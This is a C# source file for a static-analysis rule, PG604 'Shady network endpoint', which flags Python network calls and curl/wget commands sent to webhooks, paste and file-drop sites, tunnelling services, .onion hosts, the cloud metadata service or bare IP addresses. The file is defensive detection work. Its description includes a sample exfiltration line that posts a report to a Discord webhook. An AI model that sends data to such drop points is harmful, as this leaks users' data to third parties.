using System.Collections.Immutable;
using PyGuard.Analyzers.Catalogs;
using PyGuard.Analyzers.Common;
using PyGuard.Engine.Analysis;
using PyGuard.Engine.Model;
using PyGuard.Syntax.Tree;

namespace PyGuard.Analyzers.Exfil;

/// <summary>PG604: network calls to endpoints where stolen data is typically dropped.</summary>
public sealed class ShadyEndpoint : Analyzer
{
    private const string IpLiteralReason = "a bare IP address rather than a name, typical of throw-away servers";

    public static readonly RuleDescriptor Descriptor = Rule.Define(
        "PG604", "Shady network endpoint", "{0} contacts {1}: {2}",
        RuleCategory.Exfil, Severity.Warning, Confidence.High, 6.5, [200, 941],
        whatItDoes: "Reports network calls (the clients PG601 knows, and curl/wget command lines) whose destination is a webhook or bot API (Discord, Slack, Teams, Telegram), a paste or file-drop site, a request catcher, a tunnelling service (ngrok, Cloudflare quick tunnels, localtunnel...), a .onion service, a dynamic-DNS name, the cloud metadata service, or a URL whose host is a bare IP address. The list lives in rules/catalog/endpoints.toml. A URL is recognised even when only its beginning is constant (`f\"{BOT}?{query}\"`).",
        why: "These are the drop boxes of data theft: anyone holding a webhook URL can post into the channel, paste and file-drop sites need no account, tunnels and dynamic DNS hide the attacker's own machine behind a throw-away name, and the metadata service hands out the machine's cloud credentials. Agent code has rarely a legitimate reason to talk to them.",
        example: "import requests\nrequests.post('https://discord.com/api/webhooks/1234/abcd', json={'content': report})",
        instead: "Send results to a service you control and name explicitly, and have a human approve it.",
        safeExample: "import requests\nrequests.post('https://api.example.com/reports', json={'content': report}, timeout=10)",
        "https://attack.mitre.org/techniques/T1567/");

    public override ImmutableArray<RuleDescriptor> SupportedRules { get; } = [Descriptor];

    public override void Initialize(AnalysisRegistration registration) =>
        registration.RegisterNodeAction(Analyze, NodeKind.ExprCall);

    private static void Analyze(NodeContext context)
    {
        var call = (ExprCall)context.Node;
        var model = context.Model;
        IEnumerable<Endpoint> destinations;
        string function;
        if (NetworkCalls.Find(model, call) is { } network)
        {
            destinations = Endpoints.Of(model, network.Endpoint);
            function = network.Function;
        }
        else if (ProcessCalls.Find(model, call) is { NetworkTool: { } tool, Command: { } command })
        {
            destinations = Endpoints.InCommand(command);
            function = tool;
        }
        else
        {
            return;
        }

        foreach (var destination in destinations)
        {
            var reason = EndpointCatalog.Find(destination.Host, destination.Path)?.Reason ??
                (destination.IsUrl && EndpointCatalog.IsRemoteIpLiteral(destination.Host) ? IpLiteralReason : null);
            if (reason is not null)
            {
                context.ReportHere(Descriptor, function, CallSites.Describe(destination.Text), reason);
                return;
            }
        }
    }
}
